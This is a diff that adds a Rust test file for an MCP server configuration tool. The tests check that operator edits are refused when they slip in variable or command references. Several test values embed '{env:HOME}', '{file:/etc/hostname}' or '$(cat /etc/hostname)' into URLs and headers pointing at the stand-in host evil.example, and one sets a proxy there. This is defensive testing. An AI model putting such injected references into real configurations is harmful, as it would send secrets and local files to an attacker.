@@ -1,0 +1,252 @@
+//! Edits with references, and of servers that variables have settings for.
+
+use super::*;
+
+#[test]
+fn a_client_s_spelling_is_a_reference_all_the_same() {
+    let text =
+        "{ \"mcp\": { \"a\": { \"type\": \"remote\", \"url\": \"https://a.example/mcp\" } } }\n";
+    let scene = Scene::of(&[("opencode.json", text)]);
+    let refused = |edits: AdminEdits, operation: ConfigOperation| {
+        prepare_operator_edit(edits, &scene.options, None, &[operation])
+            .err()
+            .map(|error| error.code)
+    };
+    let add = |url: &str| ConfigOperation::AddServer {
+        name: "b".to_owned(),
+        settings: json!({ "url": url }),
+    };
+    let describe = |text: &str| {
+        let values = json!({ "description": text }).as_object().unwrap().clone();
+        ConfigOperation::SetKeys {
+            server: "a".to_owned(),
+            values,
+        }
+    };
+    for text in ["{env:HOME}", "{file:/etc/hostname}", "a{env:HOME}b"] {
+        let url = format!("https://evil.example/mcp?q={text}");
+        assert_eq!(
+            refused(AdminEdits::default(), add(&url)),
+            Some("commands_not_allowed"),
+            "{text}"
+        );
+        assert_eq!(
+            refused(AdminEdits::default(), describe(text)),
+            Some("commands_not_allowed"),
+            "{text}"
+        );
+    }
+    assert_eq!(
+        refused(AdminEdits::default(), describe("costs $5 {x}")),
+        None
+    );
+    // A client's format has no escape for it.
+    assert_eq!(
+        refused(AdminEdits::default(), describe("costs ${HOME}")),
+        Some("cannot_edit")
+    );
+    assert_eq!(
+        refused(AdminEdits::default(), add("https://b.example/mcp")),
+        None
+    );
+    let permitted = AdminEdits {
+        allow_commands: true,
+        ..AdminEdits::default()
+    };
+    assert_ne!(
+        refused(permitted, describe("{env:PATH}")),
+        Some("commands_not_allowed")
+    );
+}
+
+/// Returns the code with which an operator's edit is refused.
+fn refusal_code(file: &str, text: &str, operation: ConfigOperation) -> Option<&'static str> {
+    let scene = Scene::of(&[(file, text)]);
+    prepare_operator_edit(AdminEdits::default(), &scene.options, None, &[operation])
+        .err()
+        .map(|error| error.code)
+}
+
+/// Writes a client's file with a server of this type and another entry.
+fn client_file(kind: &str, evil: &serde_json::Value) -> String {
+    let first = json!({ "type": kind, "url": "https://a.example/mcp" });
+    json!({ "mcp": { "a": first, "evil": evil } }).to_string()
+}
+
+/// Adds a server of this type, which may change the client that the file is taken for.
+fn add_typed(kind: &str) -> ConfigOperation {
+    ConfigOperation::AddServer {
+        name: "b".to_owned(),
+        settings: json!({ "url": "http://127.0.0.1:9/mcp", "type": kind }),
+    }
+}
+
+fn remove() -> ConfigOperation {
+    ConfigOperation::RemoveServer("a".to_owned())
+}
+
+#[test]
+fn no_edit_changes_what_another_entry_refers_to() {
+    let not_allowed = Some("commands_not_allowed");
+    // A type that only Crush has makes the file one of Crush, and the removal of the last one makes
+    // it OpenCode's.
+    for (crush, opencode) in [
+        ("$HOME", "{env:HOME}"),
+        ("$(cat /etc/hostname)", "{file:/etc/hostname}"),
+    ] {
+        for entry in [
+            |text: &str| json!({ "url": "https://evil.example/mcp", "headers": { "X": text } }),
+            |text: &str| json!({ "url": format!("https://evil.example/mcp?q={text}") }),
+            |text: &str| json!({ "url": "https://evil.example/mcp", "title": text }),
+        ] {
+            assert_eq!(
+                refusal_code(
+                    "opencode.json",
+                    &client_file("remote", &entry(crush)),
+                    add_typed("http")
+                ),
+                not_allowed,
+                "{crush}"
+            );
+            assert_eq!(
+                refusal_code("m.json", &client_file("http", &entry(opencode)), remove()),
+                not_allowed,
+                "{opencode}"
+            );
+        }
+    }
+    let plain = json!({ "url": "https://c.example/mcp", "headers": { "X": "100$" } });
+    assert_eq!(
+        refusal_code(
+            "opencode.json",
+            &client_file("remote", &plain),
+            add_typed("http")
+        ),
+        None
+    );
+    assert_eq!(
+        refusal_code("m.json", &client_file("http", &plain), remove()),
+        None
+    );
+    // In a client's file, a key that any operator may set can say where a server leads.
+    let values = json!({ "protocol": "sse" }).as_object().unwrap().clone();
+    let protocol = ConfigOperation::SetKeys {
+        server: "evil".to_owned(),
+        values,
+    };
+    assert_eq!(
+        refusal_code("m.json", &client_file("http", &plain), protocol),
+        not_allowed
+    );
+}
+
+#[test]
+fn references_of_the_owner_stay_as_they_are() {
+    // What the owner wrote stays, references and programs too.
+    let owned =
+        json!({ "command": ["x"], "environment": { "A": "{env:HOME}" }, "description": "$$5" });
+    assert_eq!(
+        refusal_code(
+            "opencode.json",
+            &client_file("remote", &owned),
+            add_typed("http")
+        ),
+        Some("commands_not_allowed"),
+        "its variable is lost"
+    );
+    assert_eq!(
+        refusal_code("opencode.json", &client_file("remote", &owned), add("b")),
+        None
+    );
+    assert_eq!(
+        refusal_code("opencode.json", &client_file("remote", &owned), remove()),
+        None
+    );
+}
+
+#[test]
+fn dollar_signs_are_written_as_the_file_s_format_has_them() {
+    let entry = r#"{ "a": { "url": "https://a.example/mcp" } }"#;
+    for (file, text, written) in [
+        (
+            "mcp.json",
+            format!(r#"{{ "mcpServers": {entry} }}"#),
+            "k$$1$",
+        ),
+        ("mcp.json", format!(r#"{{ "servers": {entry} }}"#), "k$$1$"),
+        ("opencode.json", format!(r#"{{ "mcp": {entry} }}"#), "k$$1$"),
+        (
+            "moongate.json",
+            format!(r#"{{ "servers": {entry} }}"#),
+            "k$$$$1$$",
+        ),
+        (
+            "moongate.json",
+            format!(r#"{{ "servers": {entry}, "gateway": {{}} }}"#),
+            "k$$$$1$$",
+        ),
+        ("moongate.toml", String::new(), "k$$$$1$$"),
+    ] {
+        let scene = Scene::of(&[(file, &text)]);
+        let headers = json!({ "Authorization": "Bearer k$$$$1$$" });
+        let settings =
+            json!({ "url": "https://b.example/mcp", "headers": headers, "title": "5$$" });
+        scene
+            .apply(&ConfigOperation::AddServer {
+                name: "b".to_owned(),
+                settings,
+            })
+            .unwrap();
+        let after = scene.text(file);
+        assert!(after.contains(&format!("\"Bearer {written}\"")), "{after}");
+        let read = load(&scene.options).unwrap();
+        assert_eq!(read.resolved()["servers"]["b"]["title"], "5$$", "{after}");
+        let values = json!({ "description": "$$2" }).as_object().unwrap().clone();
+        scene
+            .apply(&ConfigOperation::SetKeys {
+                server: "b".to_owned(),
+                values,
+            })
+            .unwrap();
+        assert_eq!(
+            load(&scene.options).unwrap().resolved()["servers"]["b"]["description"],
+            "$$$$2"
+        );
+    }
+}
+
+#[test]
+fn a_server_of_variables_is_there_already() {
+    let mut scene = Scene::of(&[("a.toml", TOML)]);
+    let variables = [
+        ("URL", "http://ledger.internal/mcp"),
+        ("HEADERS__AUTHORIZATION", "Bearer s"),
+    ];
+    let variables = variables
+        .map(|(key, value)| (format!("MOONGATE_SERVERS__LEDGER__{key}"), value.to_owned()));
+    scene.options.env.extend(variables);
+    let settings = json!({ "proxy": "http://evil.example:3128" });
+    let merged = ConfigOperation::AddServer {
+        name: "ledger".to_owned(),
+        settings,
+    };
+    let refused = |edits: AdminEdits, operation: &ConfigOperation| {
+        let operations = std::slice::from_ref(operation);
+        prepare_operator_edit(edits, &scene.options, None, operations)
+            .err()
+            .map(|error| (error.code, error.message))
+    };
+    let permitted = AdminEdits {
+        allow_commands: true,
+        ..AdminEdits::default()
+    };
+    for edits in [AdminEdits::default(), permitted] {
+        let (code, message) = refused(edits, &merged).unwrap();
+        assert_eq!(code, "already_there");
+        assert!(
+            message.contains("MOONGATE_SERVERS__LEDGER__URL"),
+            "{message}"
+        );
+        assert_eq!(refused(edits, &add("ledger2")), None);
+    }
+}
